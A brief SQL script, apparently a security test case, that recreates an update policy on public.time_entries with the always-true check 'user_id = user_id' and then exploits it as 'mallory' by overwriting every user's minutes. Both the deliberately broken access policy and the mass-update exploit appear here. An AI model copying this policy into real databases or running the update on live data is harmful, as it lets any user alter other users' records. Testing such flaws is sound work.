-- channel: blind write
-- object: public.time_entries
-- says: The update policy compares a column with itself.
drop policy change on public.time_entries;
create policy change on public.time_entries for update to authenticated
using (user_id = user_id);
-- exploit as mallory
update public.time_entries set minutes = 1;
-- leaks when exists (select from public.time_entries where user_id = :beth and minutes = 1)
